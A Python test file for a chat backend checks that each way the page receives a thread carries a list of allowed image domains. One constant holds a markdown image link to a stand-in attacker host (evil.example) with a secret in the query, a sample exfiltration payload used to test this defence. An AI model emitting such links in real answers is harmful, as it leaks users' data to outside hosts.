"""From where the page may show images in answers: it is told so wherever it gets a thread."""

from collections.abc import AsyncIterator, Callable
from typing import Any

import pytest
from chatkit.types import ProgressUpdateEvent, ThreadStreamEvent
from types_boto3_dynamodb.client import DynamoDBClient

from chat_api.toolkit.calls import ActionCall
from chat_testing.app import App, application
from chat_testing.builders import context
from chat_testing.tokens import TokenIssuer
from chatkit_aws.store import DynamoDBStore

STOLEN = "Here: ![what you said](https://evil.example/?q=a-secret)"


@pytest.fixture
async def allowing(table_name: str, dynamodb: DynamoDBClient, issuer: TokenIssuer) -> AsyncIterator[Callable[..., App]]:
    made: list[App] = []

    def make(*domains: str) -> App:
        made.append(application(table_name, dynamodb, issuer, image_domains=domains))
        return made[-1]

    yield make
    for app in made:
        await app.http.aclose()


async def told(app: App) -> list[Any]:
    """What the page is told in each way in which it gets a thread."""
    alice = app.user("alice")
    app.models.say(STOLEN)
    created = await alice.create("Hi")
    thread_id = created.thread_id
    threads = [
        created.of_type("thread.created")[0]["thread"],
        (await alice.send("threads.get_by_id", thread_id=thread_id)).json,
        (await alice.send("threads.update", thread_id=thread_id, title="Named")).json,
        (await alice.send("threads.list")).json["data"][0],
    ]
    return [thread.get("allowed_image_domains") for thread in threads]


async def test_answers_show_no_images_unless_domains_are_set(allowing: Callable[..., App]) -> None:
    # A list that is not empty: an empty one might be taken for none at all.
    assert await told(allowing()) == [["images.invalid"]] * 4


async def test_answers_show_images_of_the_domains_that_are_set(allowing: Callable[..., App]) -> None:
    assert await told(allowing("example.com", "cdn.example.com")) == [["example.com", "cdn.example.com"]] * 4


async def test_thread_may_have_domains_of_its_own(app: App) -> None:
    alice = app.user("alice")
    app.models.say("Hello")
    thread_id = (await alice.create()).thread_id
    store, user = DynamoDBStore(app.table_name, app.dynamodb), context("alice", "default")
    for own, expected in ((["own.example"], ["own.example"]), ([], ["images.invalid"])):
        thread = await store.load_thread(thread_id, user)
        await store.save_thread(thread.model_copy(update={"allowed_image_domains": own}), user)
        assert (await alice.send("threads.get_by_id", thread_id=thread_id)).json["allowed_image_domains"] == expected


async def test_thread_that_changes_in_a_turn_is_told_with_its_domains(
    table_name: str, dynamodb: DynamoDBClient, issuer: TokenIssuer
) -> None:
    async def rename(call: ActionCall) -> AsyncIterator[ThreadStreamEvent]:
        call.thread.title = "Named"
        yield ProgressUpdateEvent(text="Named it")

    app = application(table_name, dynamodb, issuer, actions={"rename": rename}, image_domains=("example.com",))
    async with app.http:
        app.models.say("Hello")
        thread_id = (await app.user("alice").create()).thread_id
        action = {"type": "rename", "payload": {}}
        answer = await app.user("alice").send("threads.custom_action", thread_id=thread_id, action=action)
    [event] = answer.of_type("thread.updated")
    assert (event["thread"]["title"], event["thread"]["allowed_image_domains"]) == ("Named", ["example.com"])
